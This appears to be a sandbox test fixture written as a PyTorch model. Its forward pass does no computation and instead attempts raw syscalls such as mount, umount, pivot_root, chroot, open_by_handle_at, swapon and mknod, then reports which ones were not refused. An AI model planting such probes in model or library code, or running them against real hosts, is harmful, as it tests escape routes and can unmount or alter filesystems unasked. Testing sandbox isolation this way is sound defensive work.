import ctypes
import errno
import os

from torch import nn

LIBC = ctypes.CDLL(None, use_errno=True)
BUFFER = ctypes.create_string_buffer(4096)
ADDRESS = ctypes.addressof(BUFFER)


def call(*arguments):
    if LIBC.syscall(*map(ctypes.c_long, arguments)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def refused(attempt):
    try:
        attempt()
    except OSError as error:
        return error.errno in (errno.EPERM, errno.EACCES, errno.EROFS, errno.ENOSYS, errno.ENOENT)
    return False


TMPFS = ctypes.addressof(ctypes.create_string_buffer(b"tmpfs"))
PLACE = ctypes.addressof(ctypes.create_string_buffer(b"/tmp"))
ATTEMPTS = {
    "mount": lambda: call(165, TMPFS, PLACE, TMPFS, 0, 0),
    "remount": lambda: call(165, 0, PLACE, 0, 0x20, 0),
    "umount": lambda: call(166, PLACE, 2),
    "pivot_root": lambda: call(155, PLACE, PLACE),
    "chroot": lambda: call(161, PLACE),
    "fsopen": lambda: call(430, TMPFS, 0),
    "open_tree": lambda: call(428, -100, PLACE, 1),
    "move_mount": lambda: call(429, -100, PLACE, -100, PLACE, 0),
    "mount_setattr": lambda: call(442, -100, PLACE, 0, ADDRESS, 32),
    "open_by_handle_at": lambda: call(304, -100, ADDRESS, 0),
    "swapon": lambda: call(167, PLACE, 0),
    "a device of its own": lambda: os.mknod("/tmp/null", 0o20666, os.makedev(1, 3)),
}


class MyModel(nn.Module):
    def __init__(self, hidden):
        super().__init__()
        self.net = nn.Sequential(nn.Linear(4, hidden), nn.ReLU(), nn.Linear(hidden, 1))

    def forward(self, x):
        found = ", ".join(name for name, each in ATTEMPTS.items() if not refused(each)) or "nothing"
        raise RuntimeError(f"reached {found} in {len(ATTEMPTS)} attempts")
